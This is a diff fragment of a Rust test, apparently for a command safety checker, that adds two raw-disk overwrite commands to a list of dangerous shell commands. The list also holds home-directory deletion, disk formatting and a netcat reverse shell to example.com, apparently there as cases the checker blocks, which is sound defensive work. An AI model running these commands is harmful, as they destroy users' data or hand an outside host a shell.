@@ -489,6 +489,8 @@ fn the_developer_pack_is_not_in_the_way_of_ordinary_work() {
                 "rm -rf ~",
                 "rm -rf $HOME",
                 "mkfs.ext4 /dev/sda",
+                "cat x > /dev/sda",
+                "tee /dev/nvme0n1",
                 "dd if=x of=/dev/sda",
                 "nc -e /bin/sh example.com 1",
             ][..],
